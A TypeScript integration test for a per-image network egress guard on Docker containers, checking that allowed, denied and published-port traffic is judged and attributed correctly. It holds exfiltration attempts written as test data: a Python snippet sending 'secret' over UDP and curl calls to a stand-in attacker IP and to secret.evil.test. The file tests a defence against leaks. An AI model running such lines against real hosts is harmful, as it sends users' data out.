/** What containers behind bridges send, on a guarded machine: judged, and attributed to their processes. */

import assert from "node:assert/strict";
import type { LogEvent } from "../../src/protocol/mod.ts";
import { MachineDocker } from "../support/docker_machine.ts";
import { events, none, show, some } from "../support/log.ts";
import { logOf, machineSuite } from "../support/machine_suite.ts";
import { readLog } from "../support/run.ts";

const test = machineSuite();

/** Only containers of one image get anywhere. */
const POLICY = `
[cgroup=@docker image=shop/app:*]
site.test
http://site.test/*
198.51.100.80:9000/udp
`;

/** Sends a datagram without connecting its socket, and prints the answer. */
const UDP = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
s.sendto(b"hello", ("198.51.100.80", 9000)); print(s.recv(100).decode())`;

/** The same to the attacker, with it connected: who is refused knows at once. */
const STEAL = `
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5); s.connect(("203.0.113.66", 9000)); s.send(b"secret"); s.recv(100)`;

/** What a container is to try. $1 tells it apart, $2 and $3 are the programs above */
const TRY = `
get="curl -sS -m 5"
$get "https://site.test/$1"; $get "http://site.test/$1"
python3 -c "$2"
(python3 -c "$3"; $get http://203.0.113.66/; $get https://secret.evil.test/) >/dev/null 2>&1
ping -c 1 203.0.113.66 >/dev/null 2>&1
true`;

const attempt = (name: string) => ["sh", "-c", TRY, "sh", name, UDP, STEAL];

test("traffic of bridges is judged, and told with its process, container and image", async (s) => {
  await using docker = await MachineDocker.start(s.machine);
  await s.guard(POLICY);
  await docker.must("network", "create", "later");
  for (const network of ["bridge", "later", "host"]) {
    const create = ["create", "--network", network, "shop/app:1", ...attempt(network)];
    const id = await docker.must(...create);
    const said = await docker.must("start", "--attach", id);
    assert.equal(said, `GET /${network} 0\nGET /${network} 0\nhello`);
    const log = await readLog(logOf(s));
    const who = { cgroup: `/docker/${id}`, image: "shop/app:1" };
    const curl = { ...who, exe: "/usr/bin/curl" };
    some(log, { ...curl, type: "https", url: `https://site.test/${network}`, policy: "allow" });
    some(log, { ...curl, type: "http", url: `http://site.test/${network}`, policy: "allow" });
    some(log, { ...who, type: "udp", dst_ip: "198.51.100.80", policy: "allow" });
    some(log, { ...who, type: "udp", dst_ip: "203.0.113.66", policy: "deny" });
    some(log, { ...curl, type: "http", dst_ip: "203.0.113.66", policy: "deny" });
    some(log, { type: "dns", name: "secret.evil.test", policy: "deny" });
    // In the machine's network a container has no NET_RAW to ping with.
    if (network !== "host") some(log, { ...who, type: "gate", message: "socket refused: icmp" });
  }
  // The same by another image.
  const other = await docker.run("run", "--rm", "shop/other:1", ...attempt("other"));
  assert.equal(other.stdout, "", other.stderr);
  const log = await readLog(logOf(s));
  assert.equal(events(log, { image: "shop/other:1", policy: "allow" }).length, 0, show(log));
  some(log, { image: "shop/other:1", type: "udp", dst_ip: "198.51.100.80", policy: "deny" });
  await s.attackerGotNothing();
});

/** Answers by HTTP on port 8080. */
const SERVER = `
import http.server
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers(); self.wfile.write(b"service")
    def log_message(self, *_): pass
print("ready", flush=True)
http.server.HTTPServer(("", 8080), Handler).serve_forever()`;

test("service containers and published ports work, unjudged", async (s) => {
  await using docker = await MachineDocker.start(s.machine);
  await s.guard(POLICY);
  await docker.must("network", "create", "shop");
  const server = ["--publish", "127.0.0.1:18080:8080", "shop/other:1", "python3", "-uc", SERVER];
  const id = await docker.must("run", "--detach", "--network", "shop", "--name", "svc", ...server);
  await s.machine.sh(
    `until /usr/bin/docker logs "$1" | grep -q ready; do sleep 0.05; done`,
    id,
  );
  const local = await s.machine.run("curl", "-sS", "-m", "5", "http://127.0.0.1:18080/");
  assert.equal(local.stdout, "service", local.stderr);
  const get = ["curl", "-sS", "-m", "5", "http://svc:8080/"];
  const across = await docker.run("run", "--rm", "--network", "shop", "shop/other:1", ...get);
  assert.equal(across.stdout, "service", across.stderr);
  const log: LogEvent[] = await readLog(logOf(s));
  none(log, { dst_port: 8080 });
  none(log, { dst_port: 18080 });
});
